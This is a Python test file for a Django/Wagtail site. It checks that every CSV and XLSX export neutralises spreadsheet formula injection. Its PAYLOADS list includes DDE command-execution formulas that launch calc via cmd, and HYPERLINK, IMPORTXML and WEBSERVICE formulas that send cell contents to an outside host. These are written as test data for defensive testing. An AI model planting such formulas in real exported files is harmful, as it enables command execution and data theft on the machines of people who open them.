"""No table that leaves the site holds a live formula, whoever wrote the words in it (S5)."""

import csv
import io
import re
from collections.abc import Iterator
from io import BytesIO
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.log_actions import log
from wagtail.models import Page, Workflow

from casestudies.adoptions.models import Adoption
from casestudies.exchange.template import template_csv, template_xlsx
from casestudies.models import CaseStudyPage, CaseStudySupplier, Measure
from portal.core.spreadsheet import safe_cell, workbook_cell
from portal.settings.env import ROOT
from search.models import SearchLogEntry, SynonymRule
from tests.factories.case_studies import make_case_study

PAYLOADS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "   =1+1", "\u00a0=1+1"),
    *("\u3000=1+1", '"=1+1', '""=1+1', "'=1+1", "''=1+1", "\u2018=1+1", "\u201c=1+1", "`=1+1", "\u200b=1+1"),
    *("\ufeff=1+1", "\u2060=1+1", "\u202e=1+1", "\u00ad=1+1", "\x0b=1+1", "\x1c=1+1", " '\u200b =1+1"),
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\u22121+1", "\ufe661+1", "\ufe621+1"),
    *("=cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "|cmd", "%0A=1+1", "+HYPERLINK(1)", "-2+3+cmd|' /C calc'!A0"),
    *('=HYPERLINK("https://example.com/?x="&A1,"Open")', '=IMPORTXML(CONCAT("https://example.com/",A1),"//a")'),
    *('=WEBSERVICE("https://example.com/")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "{=1+1}=", "=\u200b1+1"),
]  # fmt: skip

WAGTAILS = {
    "adoptions:index",
    "adoptions:index_results",
    "wagtailadmin_reports:locked_pages",
    "wagtailadmin_reports:locked_pages_results",
    "wagtailadmin_reports:aging_pages",
    "wagtailadmin_reports:aging_pages_results",
    "wagtailadmin_reports:site_history",
    "wagtailadmin_reports:site_history_results",
    "wagtailadmin_reports:workflow",
    "wagtailadmin_reports:workflow_results",
    "wagtailadmin_reports:workflow_tasks",
    "wagtailadmin_reports:workflow_tasks_results",
    "wagtailredirects:index",
    "wagtailredirects:index_results",
}
"""Wagtail's screens that export, by their addresses' names. A new one must be added here, and so is tried."""

OURS = [
    *("/case-studies/export.csv", "/case-studies/export.xlsx", "/admin/case-study-spreadsheets/export.csv"),
    *("/admin/case-study-spreadsheets/export.xlsx", "/admin/synonymrule/table/"),
    "/api/v1/case-studies/?format=csv&per_page=100",
    *(f"/admin/search-reports/?format=csv&report={name}" for name in ("top", "nothing-found", "rarely-opened")),
]

_DROPPED = " \t\r\n\u00a0\u3000\"'`\u2018\u2019\u201c\u201d\u200b\u200c\u200d\ufeff\u2060\u202e\u00ad\x0b\x1c"
_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def is_live(cell: str) -> bool:
    """Whether a spreadsheet may run a text cell: by a rule of its own, so that ours is not judged by itself."""
    if cell.startswith("'") or _NUMBER.fullmatch(cell):
        return False
    return cell[:1] in tuple("\t\r\n") or cell.lstrip(_DROPPED)[:1] in tuple("=+-@|%＝＋－＠−﹦﹢")  # noqa: RUF001


def cells(content: bytes) -> list[str]:
    """Every text cell of a CSV file or a workbook. Fails on a cell that is a formula by its type."""
    if not content.startswith(b"PK"):
        text = content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    found = [cell for sheet in load_workbook(BytesIO(content)) for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in found if cell.data_type == "f"] == []
    return [cell.value for cell in found if isinstance(cell.value, str)]


@pytest.fixture
def administrator(db: None) -> Client:
    """Signed in, on a site where every payload stands wherever somebody can write it."""
    user = get_user_model().objects.create_superuser("administrator", first_name="=1+1", last_name="@SUM(1)")
    workflow = Workflow.objects.order_by("pk")[0]
    for number, payload in enumerate(PAYLOADS):
        case = make_case_study(payload, slug=f"case-{number}", summary=payload, staff_time=payload, shut_out=payload)
        case.supplier_items = [CaseStudySupplier(name=payload)]
        case.measures = [Measure(what=payload, before=payload, after=payload, unit="-1")]
        case.problem = [("text", f"<p>{payload}</p>")]
        case.cost_yearly = -5
        case.save()
        log(instance=case, action="wagtail.edit", user=user)
        Adoption.objects.create(page=case, council_typed=payload, stage="live", text=payload, outcome=payload)
        Redirect.objects.create(old_path=f"{payload}{number}"[:255], redirect_link=payload)
        SynonymRule.objects.create(words=f"{payload} {number}", meanings=payload, reason=payload, owner=user)
        SearchLogEntry.objects.bulk_create(
            SearchLogEntry(day=timezone.localdate(), query=f"{payload} {found}", lexical=found, shown=found)
            for found in (0, *[3] * 6)
        )
    Page.objects.filter(pk__in=CaseStudyPage.objects.values("pk")).update(
        locked=True, locked_by=user, locked_at=timezone.now(), last_published_at=timezone.now()
    )
    for case in CaseStudyPage.objects.all()[:3]:
        case.save_revision()
        workflow.start(case, user)
    client = Client()
    client.force_login(user)
    return client


def download(client: Client, address: str) -> bytes:
    response = client.get(address)
    assert response.status_code == 200, address
    assert "attachment" in response["Content-Disposition"], address
    # A file or a stream is closed by the test client when it has been read.
    return b"".join(response.streaming_content) if response.streaming else response.content  # type: ignore[attr-defined]


def exports() -> Iterator[str]:
    yield from OURS
    for name in sorted(WAGTAILS):
        for ending in ("csv", "xlsx"):
            yield f"{reverse(name)}?export={ending}"


def test_no_export_holds_a_live_formula(administrator: Client) -> None:
    """Every payload, in every export."""
    assert len(PAYLOADS) >= 40
    live: dict[str, list[str]] = {}
    guarded: dict[str, int] = {}
    for address in exports():
        found = cells(download(administrator, address))
        if bad := [cell for cell in found if is_live(cell)]:
            live[address] = bad
        guarded[address] = sum(cell.startswith("'") for cell in found)

    assert live == {}
    tasks = {address for address in guarded if "workflow" in address}
    assert {address: count for address, count in guarded.items() if count < (1 if address in tasks else 40)} == {}


def views(patterns: list[URLPattern | URLResolver], names: str = "") -> Iterator[tuple[str, Any]]:
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{names}{pattern.namespace}:" if pattern.namespace else names
            yield from views(pattern.url_patterns, inner)
        else:
            yield f"{names}{pattern.name}", pattern.callback


def test_every_screen_of_wagtail_that_exports_is_among_those_tried() -> None:
    found = set()
    for name, view in views(get_resolver().url_patterns):
        made = getattr(view, "view_class", None)
        if made is None or not issubclass(made, SpreadsheetExportMixin):
            continue
        if {**vars(made), **getattr(view, "view_initkwargs", {})}.get("list_export", made.list_export):
            found.add(name)
    assert found == WAGTAILS


def subclasses(made: type[Any]) -> Iterator[type[Any]]:
    each: type[Any]
    for each in made.__subclasses__():
        yield each
        yield from subclasses(each)


def test_no_view_goes_round_the_guard() -> None:
    guarded = {
        "get_heading",
        "preprocess_field_value",
        "stream_csv",
        "write_xlsx",
        "write_csv_row",
        "generate_xlsx_row",
    }
    assert {view for view in subclasses(SpreadsheetExportMixin) if guarded & set(vars(view))} == set()


def test_tables_are_written_in_one_place() -> None:
    writes = re.compile(r"csv\.writer|DictWriter|Workbook\(|text/csv")
    allowed = {"portal/core/spreadsheet.py", "casestudies/exchange/template.py"}
    allowed.add("portal/taxonomy/importers/compact.py")  # the repository's own lists, written by its developers
    sources = (path for folder in ("portal", "casestudies", "search") for path in (ROOT / folder).rglob("*.py"))
    found = {str(path.relative_to(ROOT)) for path in sources if writes.search(path.read_text())}
    assert found <= allowed


def test_the_template_holds_no_live_formula() -> None:
    for response in (template_csv(), template_xlsx()):
        assert [cell for cell in cells(response.content) if is_live(cell)] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_stays_text_and_numbers_stay_numbers_in_a_workbook(payload: str) -> None:
    sheet = Workbook(write_only=True).create_sheet()
    assert workbook_cell(sheet, payload).data_type == "s"
    assert not is_live(safe_cell(payload))
    assert (workbook_cell(sheet, -5).data_type, workbook_cell(sheet, -5).value) == ("n", -5)
